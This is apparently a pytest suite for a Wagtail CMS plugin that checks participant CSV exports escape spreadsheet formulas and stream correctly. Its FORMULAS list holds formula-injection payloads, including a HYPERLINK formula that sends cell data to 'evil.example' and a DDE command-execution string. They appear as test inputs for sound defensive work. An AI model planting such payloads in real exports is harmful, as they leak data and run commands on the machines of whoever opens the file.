"""Issue 17, section 6: no CSV the CMS serves hands a formula to a spreadsheet."""

import ast
import csv
import io
import time
from pathlib import Path

import pytest

from wagtail_convene.clients import RegistrationClient, ServiceRejected
from wagtail_convene.clients.base import Streamed
from wagtail_convene.spreadsheets import safe_csv

from .conftest import make_event, make_reviewer
from .test_selfservice_pages import registration_service  # noqa: F401 (a real service)

PLUGIN = Path(__file__).resolve().parents[2] / "cms"
QUEUE = "/admin/convene/intake/registrations/"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&C2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_cell_that_would_start_a_formula_is_escaped_once():
    raw = io.StringIO()
    csv.writer(raw).writerows([["name", "phone"], *([f, "ok"] for f in FORMULAS)])
    once = safe_csv(raw.getvalue())
    assert rows(once)[1:] == [["'" + f, "ok"] for f in FORMULAS]
    assert safe_csv(once) == once  # a service that already escaped: nothing changes


@pytest.mark.django_db
def test_the_participants_export_is_escaped_whatever_the_service_sends(
    client, django_user_model, monkeypatch
):
    event = make_event()
    client.force_login(make_reviewer(django_user_model))
    unescaped = io.StringIO()
    csv.writer(unescaped).writerows(
        [["name", "organisation", "status"], [FORMULAS[0], FORMULAS[3], "selected"]]
    )

    text, closed = unescaped.getvalue(), []

    def export(service, user, regions, **params):
        # A service that forgot to escape, in chunks cut anywhere (inside cells too).
        return Streamed(
            [text[i : i + 7] for i in range(0, len(text), 7)], [lambda: closed.append(True)]
        )

    monkeypatch.setattr(RegistrationClient, "export", export)
    answer = client.post(f"{QUEUE}?event={event.event_key}", {"export": "1"})
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    content = b"".join(answer.streaming_content).decode()
    assert rows(content)[1] == ["'" + FORMULAS[0], "'" + FORMULAS[3], "selected"]
    answer.close()
    assert closed == [True]  # the connection to the service is freed


def test_no_other_plugin_code_writes_csv():
    found = []
    for path in (PLUGIN / "wagtail_convene").rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "wagtail_convene":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{path.name}:{node.lineno}")
    assert found == []


@pytest.mark.django_db
def test_a_long_export_streams_through_the_admin_however_long_it_takes(
    client,
    django_user_model,
    settings,
    monkeypatch,
    registration_service,  # noqa: F811
):
    """Issue 18: the CMS waits for each chunk, never for the whole file. The service here
    sends each chunk 0.15 s after the last; the whole takes longer than the timeout."""
    from services.registration import exports
    from tests.support.registrations import load_registrations

    page = make_event()
    load_registrations(registration_service, page.event_key, str(page.tracks.get().key), 450)
    drain = exports._drain

    def slowly(out):
        time.sleep(0.15)
        return drain(out)

    monkeypatch.setattr(exports, "_drain", slowly)
    settings.WAGTAILCONVENE_SERVICE_TIMEOUT = 0.4
    client.force_login(make_reviewer(django_user_model))
    started = time.monotonic()
    answer = client.post(f"{QUEUE}?event={page.event_key}", {"export": "1"})
    assert answer.status_code == 200 and answer.streaming
    assert answer["Content-Disposition"] == 'attachment; filename="participants.csv"'
    chunks = list(answer.streaming_content)
    answer.close()
    assert time.monotonic() - started > 0.4 and len(chunks) >= 3
    table = rows(b"".join(chunks).decode())
    assert table[0][:2] == ["name", "organisation"] and len(table) == 451
    assert sum(1 for row in table[1:] if row[0].startswith("Person ")) == 225
    with RegistrationClient.from_settings() as service, pytest.raises(ServiceRejected) as refused:
        service.export(
            make_reviewer(django_user_model, "eca", "ECA"), ["ECA"], event=page.event_key
        )
    assert refused.value.status == 403  # before any chunk: the admin shows the refusal
